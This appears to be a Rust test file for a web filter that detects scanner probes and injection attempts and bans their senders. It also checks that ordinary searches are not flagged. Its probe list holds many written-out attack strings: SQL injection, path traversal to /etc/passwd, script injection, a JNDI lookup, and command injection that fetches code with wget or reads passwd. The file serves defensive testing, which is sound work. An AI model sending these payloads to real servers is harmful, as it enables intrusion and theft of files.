//! What the documented signatures see and what they do not, and how they are changed.

use http::Response;
use palisade_autoban::{AutoBan, Signature, SignatureKind, Signatures, SuspiciousPolicy};
use palisade_core::Policy;

use crate::{
    Bench,
    suspicious::{BOT, policy, seen, seen_by},
};

#[test]
fn real_probes_are_seen() {
    for (target, id) in [
        ("/.env", "scanner.dotfiles"),
        ("/.env.production", "scanner.dotfiles"),
        ("/app/.git/config", "scanner.dotfiles"),
        ("/.%65nv", "scanner.dotfiles"),
        ("/blog/WP-Login.php", "scanner.wordpress"),
        ("/phpMyAdmin/index.php", "scanner.database-admin"),
        ("/cgi-bin/luci/;stok=/locale", "scanner.cgi"),
        ("/actuator/heapdump", "scanner.actuator"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "scanner.php"),
        ("/HNAP1", "scanner.devices"),
        ("/static/..%2f..%2fetc/passwd", "traversal.path"),
        ("/a/%2e%2e/%2e%2e/etc/passwd", "traversal.path"),
        ("/%252e%252e/%252e%252e/etc/passwd", "traversal.double-encoded"),
        ("/?f=..%2F..%2F..%2Fetc%2Fpasswd", "traversal.query"),
        ("/?f=/etc/passwd", "traversal.files"),
        ("/?f=image.php%00.png", "injection.null-byte"),
        ("/?id=-1+UNION+SELECT+1,2,3--", "injection.sql"),
        ("/?id=-1%20union%0aall%0aselect%201", "injection.sql"),
        ("/?id=1'+or+'1'='1", "injection.sql"),
        ("/?id=1%27%20union%20select%20null,null--", "injection.sql"),
        ("/?id=-1+union+all+select+1,2,3", "injection.sql"),
        ("/?q=1+union+select+password+from+users--", "injection.sql"),
        ("/?id=12+union+select+password+from+users--", "injection.sql"),
        ("/?id=1%22+UnIoN+aLl+SeLeCt+name", "injection.sql"),
        ("/?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-", "injection.sql"),
        ("/?id=1/*!50000union*/+/*!50000select*/+1", "injection.sql"),
        ("/?id=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", "injection.sql"),
        ("/?id=1+AND+EXTRACTVALUE(7321,CONCAT(0x5c,0x7171,(SELECT+1)))", "injection.sql"),
        ("/?id=1)+AND+4=(SELECT+4+FROM+PG_SLEEP(5))", "injection.sql"),
        ("/?n=x%27;+drop+table+students;--", "injection.sql"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "injection.script"),
        ("/?q=%22%3E%3Cscript+src=//x%3E", "injection.script"),
        ("/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "injection.php"),
        ("/?-d+allow_url_include%3don", "injection.php"),
        (
            "/?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5",
            "injection.php",
        ),
        ("/?file=file:///etc/passwd", "traversal.files"),
        ("/..%c0%af..%c0%afetc/passwd", "traversal.double-encoded"),
        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "traversal.double-encoded"),
        ("/?a=%7Cwget%20http://1.2.3.4/x", "injection.command"),
        ("/?q=%22%3E%3Csvg/onload=alert(1)%3E", "injection.script"),
        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "injection.jndi"),
        ("/?host=1.1.1.1;cat%20/etc/passwd", "injection.command"),
        ("/?page=php://filter/convert.base64-encode/resource=index", "injection.php"),
        ("/?name=%7B%7B7*7%7D%7D", "injection.template"),
        (
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "injection.java",
        ),
    ] {
        assert_eq!(seen(target).as_deref(), Some(id), "{target}");
    }
}

#[test]
fn honest_requests_are_not_seen() {
    for target in [
        "/",
        "/index.html",
        "/posts/environment",
        "/docs/.well-known/security.txt",
        "/.well-known/acme-challenge/x",
        "/wp-admins-guide",
        "/git/config",
        "/environments/.environment",
        "/search?q=select+a+union",
        "/search?q=union+select-committee",
        "/search?q=drop+table+tennis",
        "/search?q=rock+%26+roll",
        "/search?q=1+%2B+1+%3D+2",
        "/search?q=O%27Brien+or+O%27Neill",
        "/search?q=what+is+/etc/passwd",
        "/search?q=C%3A%5CWindows",
        "/search?q=jndi+lookup",
        "/search?q=time.sleep(5)",
        "/search?q=document.cookie",
        "/search?q=%23+Title%0A%0A*+one%0A*+two%0A%60code%60",
        "/search?q=if+(a+%3C+b)+%7B+return+a%3B+%7D",
        "/search?q=%24%7Bname%7D+and+%7B%7Bname%7D%7D",
        "/search?q=std::vector%3Cint%3E",
        "/search?q=100%25",
        "/search?q=100%",
        "/search?q=../x",
        "/a..b/c...d",
        "/next?url=https%3A%2F%2Fexample.com%2Fa%2F..%2Fb",
        "/img?data=iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4%2F%2F8%2Fw38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg%3D%3D",
        "/token?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "/?filters%5Bprice%5D%5B%24gt%5D=5&sort=-price",
        "/?utm_source=news&utm_campaign=50%25+off%21",
        "/%E4%BD%A0%E5%A5%BD?%E4%BD%A0=%E5%A5%BD",
    ] {
        assert_eq!(seen(target), None, "{target}");
    }
}

/// What people type into the search of a site about databases, languages and systems.
const SEARCHES: [&str; 50] = [
    "union select example",
    "union all select",
    "sql union all select vs union distinct select",
    "select from information_schema.tables",
    "select * from information_schema.columns where table_name = 'users'",
    "select 'a' union select 'b'",
    "(select 1) union select 2",
    "select a from t where b = 1 or c = 2",
    "sql server waitfor delay '00:00:05'",
    "(select pg_sleep(5))",
    "mysql extractvalue(xml, path)",
    "extractvalue(1, 2)",
    "create table; drop table users",
    "drop table if exists",
    "union select null",
    "and sleep(5) or sleep(1)",
    "call_user_func_array",
    "call_user_func_array() php",
    "allow_url_include",
    "allow_url_include=1 in php.ini",
    "auto_prepend_file",
    "auto_prepend_file = none",
    "php://input vs $_POST",
    "php://filter",
    "data://text/plain;base64",
    "expect:// wrapper",
    "<?php echo 'hello'; ?>",
    "<?php phpinfo(); ?>",
    "<script setup>",
    "<script setup lang=\"ts\">",
    "<script type=\"module\" src=\"/a.js\">",
    "<script src=\"https://cdn.example/a.js\">",
    "<svg onload=\"init()\">",
    "onerror=alert",
    "javascript:alert('hello')",
    "class.module.classloader",
    "#_memberaccess ognl",
    "t(java.lang.runtime)",
    "cmd.exe /c start",
    "sh -c \"$(curl -fssl https://example.com/install.sh)\"",
    "apt update; wget https://example.com/a.deb",
    "ls /; cat /etc/os-release",
    "bash ${ifs}",
    "/etc/passwd",
    "/etc/passwd format",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "file:///home/me/a.txt",
    "null byte %00 in c",
    "o'reilly union select-committee",
];

/// A search that asks while one types sends each beginning, six of which would be a ban.
#[test]
fn ordinary_searches_are_not_seen_nor_is_any_beginning_of_one() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let policy = policy(&auto_ban);
    for sentence in SEARCHES {
        for (end, _) in sentence.char_indices().skip(1).chain([(sentence.len(), ' ')]) {
            let typed = sentence[..end].bytes();
            let encoded: String = typed.clone().map(|byte| format!("%{byte:02x}")).collect();
            let plus: String = typed
                .map(|byte| match byte {
                    b' ' => "+".to_owned(),
                    byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
                    byte if b"-_.:/;'()=,*".contains(&byte) => char::from(byte).to_string(),
                    byte => format!("%{byte:02X}"),
                })
                .collect();
            for target in
                [format!("/search?q={plus}&page=1"), format!("/search?lang=en&q={encoded}")]
            {
                assert_eq!(seen_by(&policy, &target), None, "{target}");
            }
        }
    }
}

#[test]
fn a_page_named_after_a_word_of_a_language_is_not_seen() {
    for path in [
        "/manual/en/function.call_user_func_array",
        "/manual/allow_url_include",
        "/docs/union%20select",
        "/wiki/php://input",
        "/man5/proc/self/environ",
        "/kr/%C0%AF%C0%C7",
        "/kr/%C0%AE.html",
        "/hash?info=%00%01%00.%12%00/&x=%00&y=1",
    ] {
        assert_eq!(seen(path), None, "{path}");
    }
}

#[test]
fn the_documented_signatures_are_such_as_one_may_add() {
    for signature in Signatures::documented().iter() {
        let own = Signatures::none().with(signature.clone());
        let auto_ban = AutoBan::builder().build().unwrap();
        SuspiciousPolicy::new(auto_ban, own).unwrap();
    }
}

/// What a real site was asked in four days, each target once, with the status of the answer.
const REAL_SITE: &str = include_str!("real-site.txt");

#[test]
fn of_a_real_sites_requests_only_those_of_scanners_count() {
    let bench = Bench::new(|settings| settings.threshold(u32::MAX));
    let policy = policy(&bench.auto_ban);
    let mut hits = Vec::new();
    for line in REAL_SITE.lines() {
        let (status, target) = line.split_once(' ').unwrap();
        let Ok(uri) = target.parse() else { continue };
        let before = bench.auto_ban.violations().counted;
        let mut head = palisade_test_support::head("/");
        head.uri = uri;
        let context = bench.context(BOT);
        let _pass = policy.check(&mut head, &context);
        let mut answer = Response::new(()).into_parts().0;
        answer.status = status.parse().unwrap();
        policy.finish(&context, &mut answer);
        if bench.auto_ban.violations().counted != before {
            hits.push(target);
        }
    }
    let scanned = [
        "/blog/wp-admin/",
        "/wordpress/wp-admin/",
        "/wp-admin/",
        "/wp-login.php",
        "/wp-login.php?action=register",
        "/wp/wp-admin/",
    ];
    assert_eq!(hits, scanned);
}

#[test]
fn a_wrong_signature_is_told() {
    let told = |signatures: Signatures| {
        let auto_ban = AutoBan::builder().build().unwrap();
        SuspiciousPolicy::new(auto_ban, signatures).unwrap_err().to_string()
    };
    let with = |kind, patterns: &[&'static str]| {
        told(Signatures::none().with(Signature::new("mine", kind, patterns.iter().copied())))
    };
    use SignatureKind::{Injection, Scanner};
    assert!(with(Scanner, &[]).contains("one pattern"));
    assert!(with(Scanner, &[""]).contains("4 to 256 bytes"));
    assert!(with(Scanner, &["/a"]).contains("4 to 256 bytes"));
    assert!(with(Scanner, &["wp-login.php"]).contains("begins with `/`"));
    assert!(with(Scanner, &["////"]).contains("a name"));
    assert!(with(Injection, &["select"]).contains("more than a word"));
    assert!(with(Injection, &["allow_url-include"]).contains("more than a word"));
    assert!(with(Injection, &["sel\nect"]).contains("visible ASCII"));
    let told_id = told(Signatures::documented().without("wordpress"));
    assert!(told_id.contains("did you mean `scanner.wordpress`?"), "{told_id}");
    let twice = Signature::new("scanner.cgi", Scanner, ["/cgi-bin/"]);
    assert!(told(Signatures::documented().with(twice)).contains("of its own"));
    let upper = Signature::new("Mine!", Scanner, ["/mine"]);
    assert!(told(Signatures::none().with(upper)).contains("lower case"));
}

#[test]
fn the_documented_set_can_be_changed() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let ours = Signature::new("scanner.shop", SignatureKind::Scanner, ["/shop/admin.php"]);
    let signatures = Signatures::documented().without("scanner.wordpress").with(ours);
    let policy = SuspiciousPolicy::new(auto_ban, signatures).unwrap();
    for target in ["/wp-login.php", "/SHOP/admin.php"] {
        let mut head = palisade_test_support::head(target);
        let _verdict = policy.check(&mut head, &palisade_test_support::context());
    }
    let seen: Vec<_> = policy.hits().into_iter().filter(|hits| hits.seen > 0).collect();
    assert_eq!(seen.len(), 1);
    assert_eq!((&*seen[0].id, seen[0].kind), ("scanner.shop", "scanner"));
}
